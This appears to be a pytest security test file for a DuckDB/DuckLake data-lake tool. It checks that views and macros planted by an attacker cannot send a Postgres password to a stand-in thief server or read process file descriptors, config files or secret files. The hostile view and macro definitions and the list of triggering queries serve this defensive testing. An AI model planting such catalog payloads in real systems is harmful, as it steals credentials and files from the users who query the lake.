"""Attacks of a lake on its readers: its views and macros may come from an attacker."""

from __future__ import annotations

import contextlib
import sqlite3
from typing import TYPE_CHECKING

import duckdb
import pytest
from password_thief import password_thief

import lakeconf
from lakeconf.backends.metadata.file_catalogs import SQLiteMetadata
from lakeconf.cli.app import run
from lakeconf.errors import CatalogError, LakeconfError, QueryError, UnsafeQueryError
from lakeconf.inspection.read_only_sql import query

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from password_thief import PasswordThief

PASSWORD = "planted-password"


@pytest.fixture
def thief(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[PasswordThief]:
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    # DuckDB would install it automatically if its extension server is reachable.
    monkeypatch.setattr(SQLiteMetadata, "extensions", ("sqlite_scanner", "postgres_scanner"))
    with password_thief(tmp_path) as server:
        yield server


@pytest.fixture
def hostile_lake(project: Path, thief: PasswordThief) -> Path:
    """A lake whose views and macros connect to the attacker's server, in every known way to reach one."""
    native = lakeconf.init().get_store().connect()
    native.execute("CREATE SCHEMA raw; CREATE TABLE raw.events AS SELECT 1 AS id; CREATE TABLE pub AS SELECT 2 AS id")
    native.execute("CREATE VIEW trap AS SELECT 1 AS id; CREATE VIEW honest AS SELECT id + 1 AS id FROM raw.events")
    native.execute("CREATE VIEW over_trap AS WITH pub AS (FROM trap) SELECT id FROM pub")
    native.execute("CREATE MACRO steal() AS 1; CREATE MACRO steal_rows() AS TABLE SELECT 1 AS id")
    native.execute("CREATE MACRO over_steal(x) AS x + steal()")
    native.close()
    write_catalog(
        project, "UPDATE ducklake_view SET sql = ? WHERE view_name = 'trap'", f"SELECT 1 AS id FROM {thief.scan}"
    )
    set_macro(project, "steal", f"(SELECT count(*) FROM {thief.scan})")
    set_macro(project, "steal_rows", f"SELECT 1 AS id FROM {thief.scan}")
    return project


def write_catalog(project: Path, sql: str, *values: str) -> None:
    with contextlib.closing(sqlite3.connect(project / "catalog.sqlite")) as catalog, catalog:
        assert catalog.execute(sql, values).rowcount == 1


def set_macro(project: Path, name: str, sql: str) -> None:
    where = "macro_id = (SELECT macro_id FROM ducklake_macro WHERE macro_name = ?)"
    write_catalog(project, f"UPDATE ducklake_macro_impl SET sql = ? WHERE {where}", sql, name)


REACHING = [
    "FROM trap",
    "FROM over_trap",
    'SELECT * FROM "DEV"."main"."TRAP" AS t',
    "SELECT (SELECT max(id) FROM trap)",
    "SELECT steal()",
    "SELECT id FROM raw.events WHERE over_steal(id) > 0",
    "FROM steal_rows()",
    "FROM raw.events, LATERAL (FROM steal_rows())",
    "WITH trap AS MATERIALIZED (FROM main.trap) FROM trap",
    "SHOW ALL TABLES",
    "SHOW trap",
    "DESCRIBE trap",
    "SUMMARIZE trap",
    "FROM (DESCRIBE trap)",
    "FROM information_schema.columns",
    "FROM duckdb_columns()",
    "FROM duckdb_columns",
    "FROM pg_attribute",
    "FROM pragma_table_info('trap')",
    "FROM query('FROM trap')",
    "FROM query_table('trap')",
    "FROM histogram('trap', 'id')",
]


def test_unprotected_reader_leaks_the_password(hostile_lake: Path, thief: PasswordThief) -> None:
    native = lakeconf.init().get_store().connect()
    with pytest.raises(Exception, match="Unable to connect to Postgres"):
        native.execute("FROM trap")
    native.close()
    assert thief.seen == ["connection", f"password {PASSWORD}"]


@pytest.mark.slow
def test_lakeconf_sql_does_not_leak_the_password(
    hostile_lake: Path, thief: PasswordThief, capsys: pytest.CaptureFixture[str]
) -> None:
    for statement in REACHING:
        assert run(["sql", statement]) == 1, statement
        assert capsys.readouterr().err.count("error: ") == 1, statement
        assert thief.seen == [], statement
    assert run(["sql", "SELECT id FROM honest"]) == 0
    assert capsys.readouterr().out.split() == ["id", "2"]


@pytest.mark.slow
def test_views_and_macros_read_no_open_file_of_the_process(hostile_lake: Path) -> None:
    """Such as the file with the password that a password_command has printed."""
    file = "read_text('/proc/self/fd/*')"
    write_catalog(
        hostile_lake, "UPDATE ducklake_view SET sql = ? WHERE view_name = 'trap'", f"SELECT 1 AS id FROM {file}"
    )
    set_macro(hostile_lake, "steal", f"(SELECT count(*) FROM {file})")
    set_macro(hostile_lake, "steal_rows", f"SELECT 1 AS id FROM {file}")
    with lakeconf.init().get_store().open() as lake:
        for statement in REACHING:
            with pytest.raises(UnsafeQueryError, match="of the lake calls read_text"):
                lake.sql(statement)


def append_with_audit(lake: lakeconf.Lake, check: str) -> None:
    with lake.transaction() as transaction:
        transaction.table("pub").append(lake.table("pub").scan())
        transaction.audit("trap", check)


@pytest.mark.slow
def test_lake_sql_and_audits_do_not_leak_the_password(hostile_lake: Path, thief: PasswordThief) -> None:
    with lakeconf.init().get_store().open() as lake:
        for statement in [*REACHING, "PIVOT trap ON id", "FROM trap; FROM pub", "FROM trap AT (VERSION => 3)"]:
            with pytest.raises(UnsafeQueryError, match="of the lake calls postgres_scan"):
                lake.sql(statement)
            assert thief.seen == [], statement
        for statement in REACHING[:12]:
            with pytest.raises(LakeconfError, match="postgres_scan"):
                append_with_audit(lake, statement)
            with pytest.raises(LakeconfError, match="postgres_scan"):
                lake.create_view("made", statement)
        assert lake.sql("SELECT id FROM honest").collect().to_native()["id"].to_pylist() == [2]
    assert thief.seen == []


@pytest.mark.slow
def test_other_commands_run_no_view(hostile_lake: Path, thief: PasswordThief) -> None:
    commands = ["tables", "snapshots", "history raw.events", "tables raw.events", "doctor", "metrics"]
    commands.append("report -o report.html")
    for command in [*commands, "diff dev dev raw.events", "diff dev dev trap"]:
        run(command.split())
        assert thief.seen == [], command


@pytest.mark.slow
@pytest.mark.parametrize("table", ["main.pub", "lakeconf.commits"])
def test_views_in_place_of_tables_are_not_read(table: str, hostile_lake: Path, thief: PasswordThief) -> None:
    """lakeconf looks for a table, also for its own, and DuckDB would run the view."""
    schema, _, name = table.partition(".")
    store = lakeconf.init().get_store()
    with store.open() as lake:
        pub = lake.table("pub")
        pub.append(pub.scan(), idempotency_key="first")
        in_schema = "schema_id = (SELECT schema_id FROM ducklake_schema WHERE schema_name = ?)"
        moved = f"UPDATE ducklake_view SET view_name = upper(?), {in_schema} WHERE view_name = 'trap'"
        write_catalog(hostile_lake, moved, name, schema)
        if schema == "lakeconf":
            write_catalog(hostile_lake, "UPDATE ducklake_table SET table_name = 'kept' WHERE table_name = ?", name)
        store.connect().execute("CREATE SCHEMA more")  # a new snapshot
        uses: list[Callable[[], object]] = [
            lambda: pub.append([{"id": 1}], idempotency_key="second"),
            *(pub.to_arrow, pub.history, store.open, lambda: query(store, "FROM pub")),
        ]
        for use in uses:
            with pytest.raises(CatalogError, match=f"(?i)view '{table}' in place of a table"):
                use()
    assert thief.seen == []


def test_macro_of_the_lake_replaces_no_duckdb_function(project: Path, thief: PasswordThief) -> None:
    store = lakeconf.init().get_store()
    native = store.connect()
    native.execute("CREATE TABLE pub AS SELECT 2 AS id; CREATE SCHEMA raw; CREATE TABLE raw.t AS SELECT 1 AS id")
    for name in ["count", "max"]:
        native.execute(f"CREATE MACRO {name}(x) AS 77")
    native.execute('CREATE MACRO "+"(x, y) AS 78')
    native.execute("CREATE MACRO ducklake_current_snapshot(x) AS TABLE SELECT 79 AS id")
    native.execute("CREATE MACRO ducklake_snapshots(x) AS TABLE SELECT 79 AS id")
    native.execute("CREATE MACRO current_setting(x) AS 'nowhere'")
    native.close()
    for name in ("count", "max", "+", "current_setting"):
        set_macro(project, name, f"(SELECT count(*) FROM {thief.scan})")
    for name in ("ducklake_current_snapshot", "ducklake_snapshots"):
        set_macro(project, name, f"FROM {thief.scan}")
    with store.open() as lake:
        scanned = lake.table("pub").scan(where="id = 2")
        assert scanned.collect().to_native().to_pylist() == [{"id": 2}]
        lake.table("pub").append(lake.table("pub").scan())
        assert lake.snapshot_id > 8
        lake.maintenance.compact()
    assert run(["tables"]) == run(["snapshots"]) == 0
    assert thief.seen == []


def test_unqualified_table_name_is_resolved_in_the_main_schema_only(project: Path) -> None:
    with lakeconf.init().get_store().open() as lake:
        lake.create_table("raw.events", {"id": "INTEGER"})
        assert lake.sql("FROM raw.events").collect().to_native().num_rows == 0
        with pytest.raises(QueryError, match="the schema main has no table events"):
            lake.sql("FROM events")
        with lake.transaction() as transaction:
            made = transaction.create_table("new.events", {"id": "INTEGER"})
            made.append(lake.sql("SELECT 3::INTEGER AS id"))
            transaction.audit("none", "SELECT * FROM new.events WHERE id <> 3")


EXPRESSIONS = {
    "sort key": "UPDATE ducklake_sort_expression SET expression = ?",
    "sort key of no table": "UPDATE ducklake_sort_expression SET expression = ?, table_id = 99",
    "default value": "UPDATE ducklake_column SET default_value = ? WHERE default_value_type = 'expression'",
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", EXPRESSIONS)
def test_writes_evaluate_no_unsafe_expression_of_the_lake(kind: str, project: Path, thief: PasswordThief) -> None:
    store = lakeconf.init().get_store()
    native = store.connect()
    native.execute("CREATE TABLE pub(id INTEGER, x DOUBLE DEFAULT random()); ALTER TABLE pub SET SORTED BY (id + 1)")
    native.execute("INSERT INTO pub VALUES (1, 0); INSERT INTO pub VALUES (2, 0); CREATE MACRO steal(x) AS x")
    native.close()
    set_macro(project, "steal", f"(SELECT count(*) FROM {thief.scan})")
    for expression in [f"(SELECT count(*) FROM {thief.scan})", f"id FROM {thief.scan}", "steal(id)", "getenv('HOME')"]:
        write_catalog(project, EXPRESSIONS[kind], expression)
        with store.open() as lake:
            table = lake.table("pub")
            with pytest.raises(UnsafeQueryError, match=f"{kind.partition(' of ')[0]}|macro 'steal'"):
                table.append(table.scan())
            with pytest.raises(UnsafeQueryError, match=f"{kind.partition(' of ')[0]}|macro 'steal'"):
                lake.maintenance.compact()
            assert table.scan().collect().to_native().num_rows == 2
        assert thief.seen == [], expression
    write_catalog(project, EXPRESSIONS[kind], "random()")
    with store.open() as lake:
        lake.table("pub").append(lake.table("pub").scan())
        assert lake.maintenance.compact().files_after == 1


VIEWS = {
    "view": "ALTER TABLE ducklake_table RENAME TO kept; CREATE VIEW ducklake_table AS SELECT * FROM kept WHERE EXISTS "
    "(FROM read_text('lakeconf.toml'))",
    "macro": "CREATE MACRO max(x) AS (SELECT any_value(content) FROM read_text('lakeconf.toml'))",
    "table macro": "CREATE MACRO rows(x) AS TABLE FROM read_text('lakeconf.toml')",
    "generated column": "CREATE TABLE ducklake_more (i INT, path VARCHAR AS (current_query()))",
}


@pytest.mark.slow
@pytest.mark.parametrize("kind", VIEWS)
def test_views_and_macros_in_a_duckdb_catalog_do_not_run(
    kind: str, project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = project / "lakeconf.toml"
    config.write_text(config.read_text().replace('"sqlite"', '"duckdb"').replace("catalog.sqlite", "catalog.db"))
    with lakeconf.init().get_store().open() as lake:
        lake.create_table("pub", {"id": "INTEGER"})
    with duckdb.connect(project / "catalog.db") as catalog:
        catalog.execute(VIEWS[kind])
    for command in (["tables"], ["snapshots"], ["tables", "pub"], ["sql", "FROM pub"], ["report", "-o", "x.html"]):
        assert run(command) == 1, command
        assert "is not a plain table" in capsys.readouterr().err


@pytest.mark.parametrize("is_open", [False, True])
def test_views_in_a_sqlite_catalog_do_not_run(is_open: bool, project: Path) -> None:
    store = lakeconf.init().get_store()
    with store.open() as lake:
        lake.create_table("pub", {"id": "INTEGER"}).append([{"id": 1}])
    (project / "content.csv").write_text("x")
    opened = store.open() if is_open else None
    with contextlib.closing(sqlite3.connect(project / "catalog.sqlite")) as catalog:
        files = f"(SELECT count(*) FROM read_text('{project / 'content.csv'}'))"
        catalog.execute("ALTER TABLE ducklake_table RENAME TO kept")
        catalog.execute(f"CREATE VIEW ducklake_table AS SELECT * FROM kept WHERE {files} = 1")
    with pytest.raises(CatalogError, match="'ducklake_table' is not a plain table"):
        (store.open() if opened is None else opened).table("pub").scan()
    if opened is not None:
        opened.close()
    with pytest.raises(CatalogError, match="'ducklake_table' is not a plain table"):
        query(store, "FROM pub")


def test_view_that_is_replaced_after_the_check_is_not_checked_again(project: Path) -> None:
    """A limit of `lake.sql`, which docs/security.md describes."""
    (project / "secret.txt").write_text("content of a file")
    store = lakeconf.init().get_store()
    with store.open() as lake, store.connect() as writer:
        writer.execute("CREATE VIEW v AS SELECT 'honest' AS p")
        found = lake.sql("FROM v").to_native()
        writer.execute(f"CREATE OR REPLACE VIEW v AS SELECT content AS p FROM read_text('{project / 'secret.txt'}')")
        assert found.fetchall() == [("content of a file",)]
        with pytest.raises(UnsafeQueryError):
            lake.sql("FROM v")
